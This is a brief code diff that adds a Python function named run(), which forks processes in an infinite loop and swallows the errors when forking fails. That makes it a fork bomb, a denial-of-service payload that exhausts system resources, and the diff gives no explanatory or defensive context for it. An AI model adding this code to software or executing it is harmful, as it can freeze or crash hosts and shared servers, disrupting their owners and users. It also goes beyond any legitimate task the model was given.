@@ -1,0 +1,8 @@
+import os
+
+def run():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
